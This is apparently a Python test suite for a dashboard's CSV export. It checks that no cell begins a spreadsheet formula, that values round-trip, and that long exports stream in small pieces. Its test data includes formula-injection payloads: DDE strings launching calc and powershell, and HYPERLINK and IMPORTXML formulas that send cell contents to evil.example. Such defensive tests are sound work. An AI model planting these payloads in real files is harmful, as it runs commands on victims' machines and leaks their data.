"""Files for spreadsheets: no cell begins a formula, and a program reads back just what was stored."""

import csv
import io
import random

from dashboard.web.pages.spreadsheets import BYTE_ORDER_MARK, FORMULA_SIGNS, QUOTE, csv_pieces, defused

STARTS = (*FORMULA_SIGNS, "'=", "''", "\t=", "\r\n=", " =", '"=', ";=", ",=", "=\n", "%0A=")
ENDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"Open")',
    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "SUM(1,2);WEBSERVICE(A1)",
    "2+5+cmd|'/c powershell'!A",
    "-1",
    'a","=1+1',
    "line\r\n=1+1\n@x",
    "ẹ̀kọ́, ünïcode",
)


def payloads(count: int) -> list[str]:
    chance = random.Random(36)
    return [chance.choice(STARTS) * chance.randint(1, 2) + chance.choice(ENDS) for _ in range(count)]


def restored(cell: str) -> str:
    return cell[1:] if cell.startswith(QUOTE) else cell


def test_500_payloads_come_back_equal_and_none_begins_a_formula():
    wanted = payloads(500)

    text = "".join(csv_pieces(["name", "plain"], [[payload, "plain"] for payload in wanted]))
    header, *rows = csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""))

    formulas = [row[0] for row in rows if row[0].startswith(tuple(FORMULA_SIGNS))]
    print(f"formula payloads: {len(rows)}, begin a formula: {len(formulas)}")
    assert header == ["name", "plain"]
    assert formulas == []
    assert [restored(row[0]) for row in rows] == wanted
    assert {row[1] for row in rows} == {"plain"}


def test_no_line_of_the_file_begins_a_cell_outside_of_quotes():
    """A program that takes semicolons or tabs for separators finds none outside of quotes either."""
    text = "".join(csv_pieces(["a"], [["x;=1+1"], ["x\t=1+1"], ['say "=1"']]))

    assert text.removeprefix(BYTE_ORDER_MARK) == '"a"\r\n"x;=1+1"\r\n"x\t=1+1"\r\n"say ""=1"""\r\n'


def test_nothing_and_numbers_are_cells_too():
    assert [defused(value) for value in (None, 0, False, -5)] == ["", "0", "False", "'-5"]


def test_a_long_list_comes_in_small_pieces():
    asked = []

    def rows():
        for number in range(1000):
            asked.append(number)
            yield [f"row {number}"]

    pieces = csv_pieces(["name"], rows())

    next(pieces)
    assert len(asked) == 100
    assert max(len(piece) for piece in pieces) < 2_000
